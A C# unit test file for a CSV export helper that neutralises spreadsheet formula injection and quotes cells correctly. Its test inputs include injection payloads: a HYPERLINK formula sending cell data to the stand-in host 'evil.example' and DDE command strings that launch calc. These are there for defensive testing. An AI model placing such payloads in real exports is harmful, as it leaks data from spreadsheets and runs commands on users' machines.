using PotLock.Domain.Exports;

namespace PotLock.Domain.Tests.Exports;

/// <summary>What people typed stays what they typed: no spreadsheet works it out, and no separator tears it apart.</summary>
public sealed class CsvTextTests
{
    [Theory]
    [InlineData("=1+1")]
    [InlineData("=HYPERLINK(\"http://evil.example/?\"&A1)")]
    [InlineData("=cmd|' /C calc'!A0")]
    [InlineData("+1+cmd|' /C calc'!A0")]
    [InlineData("-2+3")]
    [InlineData("@SUM(A1:A9)")]
    [InlineData("\t=1+1")]
    [InlineData("\r=1+1")]
    [InlineData("\n=1+1")]
    [InlineData("  =1+1")]
    [InlineData("＝1+1")]
    [InlineData("\u00A0@SUM(A1)")]
    public void Formula_StandsBehindAnApostrophe(string payload) => Assert.Equal("'" + payload, CsvText.Neutralise(payload));

    [Theory]
    [InlineData("")]
    [InlineData("Groceries")]
    [InlineData("1 = 1")]
    [InlineData("50 % off")]
    [InlineData("   ")]
    [InlineData("🫙")]
    public void PlainText_StaysAsItIs(string text) => Assert.Equal(text, CsvText.Neutralise(text));

    [Theory]
    [InlineData("Bread", "Bread")]
    [InlineData("Bread, milk", "\"Bread, milk\"")]
    [InlineData("a \"b\"", "\"a \"\"b\"\"\"")]
    [InlineData("one\ntwo", "\"one\ntwo\"")]
    [InlineData(" blank", "\" blank\"")]
    [InlineData("=A1, B1", "\"'=A1, B1\"")]
    public void Cell_IsQuoted_WhereItMustBe(string text, string cell) => Assert.Equal(cell, CsvText.Cell(text));
}
